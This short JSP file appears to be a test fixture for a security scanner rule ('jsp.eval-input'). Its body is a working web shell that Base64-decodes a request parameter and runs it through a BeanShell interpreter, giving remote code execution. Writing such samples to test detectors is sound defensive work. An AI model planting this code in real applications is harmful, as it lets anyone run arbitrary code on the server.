<%-- expect rule=jsp.eval-input min=85 --%>
<%
    bsh.Interpreter it = new bsh.Interpreter();
    it.eval(new String(java.util.Base64.getDecoder().decode(request.getParameter("b"))));
%>
